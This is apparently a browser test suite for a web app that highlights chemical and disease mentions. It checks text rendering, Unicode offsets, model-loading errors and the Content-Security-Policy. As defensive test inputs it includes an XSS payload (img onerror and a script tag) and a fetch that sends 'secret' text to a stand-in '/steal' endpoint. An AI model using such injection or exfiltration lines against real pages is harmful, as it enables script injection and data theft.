// The built app in a real browser: highlights, text-only rendering, Unicode offsets, failure states, CSP.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { annotate, launch, openReady, serveDist } from "./harness.mjs";

let server;
let browser;
before(async () => {
  server = await serveDist();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

test("highlights Chemical and Disease mentions with their labels", async () => {
  const { page, errors } = await openReady(browser, server.origin);
  assert.match(await page.textContent(".status .ready"), /Model ready in \d+ ms/);
  const marks = await annotate(page, "Cisplatin-induced nephrotoxicity was seen in patients treated for lung cancer.");
  assert.deepEqual(marks, [
    { text: "Cisplatin", label: "Chemical" },
    { text: "nephrotoxicity", label: "Disease" },
    { text: "lung cancer", label: "Disease" },
  ]);
  const title = await page.getAttribute(".annotated mark", "title");
  assert.match(title, /^Chemical · \d+% confidence$/);
  assert.deepEqual(await page.$$eval(".legend li", (li) => li.map((l) => l.textContent)), ["Chemical", "Disease"]);
  assert.deepEqual(errors, []);
  await page.close();
});

test("pasted HTML is shown as text and never becomes elements", async () => {
  const { page } = await openReady(browser, server.origin);
  const hostile = 'Aspirin <img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> caused nausea.';
  await annotate(page, hostile);
  assert.equal(await page.$$eval(".result img, .result script", (n) => n.length), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(await page.textContent(".annotated"), hostile);
  await page.close();
});

test("offsets are exact in multi-byte text", async () => {
  const { page } = await openReady(browser, server.origin);
  const text = "Café 💊 β-blockers: cisplatin caused 肝炎 and nephrotoxicity.\r\nNo aspirin.";
  const marks = await annotate(page, text);
  const chemicals = marks.filter((m) => m.label === "Chemical").map((m) => m.text);
  assert.ok(chemicals.includes("cisplatin"), JSON.stringify(marks));
  assert.ok(marks.some((m) => m.text === "nephrotoxicity" && m.label === "Disease"), JSON.stringify(marks));
  // Each highlight is a substring of the text at a character boundary: no mangled surrogates.
  for (const m of marks) assert.ok(text.includes(m.text) && !/\uFFFD/.test(m.text), m.text);
  await page.close();
});

test("a failing model download shows a clear error and Retry recovers", async () => {
  const page = await browser.newPage();
  let fail = true;
  await page.route("**/models/medlight-q8_0.gguf", (route) => (fail ? route.fulfill({ status: 503, body: "down" }) : route.continue()));
  await page.goto(server.origin + "/");
  const error = page.locator(".status .error");
  await error.waitFor({ timeout: 30_000 });
  assert.match(await error.textContent(), /The model could not be loaded: cannot download models\/medlight-q8_0\.gguf: HTTP 503/);
  fail = false;
  await page.click(".status .retry");
  await page.locator(".status .ready").waitFor({ timeout: 60_000 });
  await page.close();
});

test("a corrupt model file is an error, not garbage", async () => {
  const page = await browser.newPage();
  await page.route("**/models/medlight-q8_0.gguf", (route) => route.fulfill({ status: 200, body: "not a model at all" }));
  await page.goto(server.origin + "/");
  const error = page.locator(".status .error");
  await error.waitFor({ timeout: 30_000 });
  assert.match(await error.textContent(), /the model file is unusable/);
  await page.close();
});

test("empty input shows a hint", async () => {
  const { page } = await openReady(browser, server.origin);
  await page.fill("#input", "   ");
  await page.locator(".result .hint").waitFor();
  assert.match(await page.textContent(".result .hint"), /Type or paste text/);
  await page.close();
});

test("the Content-Security-Policy blocks connections to other origins", async () => {
  const { page } = await openReady(browser, server.origin);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    let blocked = false;
    try {
      await fetch("http://127.0.0.2:9/steal?text=secret");
    } catch {
      blocked = true;
    }
    await new Promise((r) => setTimeout(r, 100));
    return { blocked, violations };
  });
  assert.equal(outcome.blocked, true);
  assert.ok(outcome.violations.includes("connect-src"), JSON.stringify(outcome));
  await page.close();
});
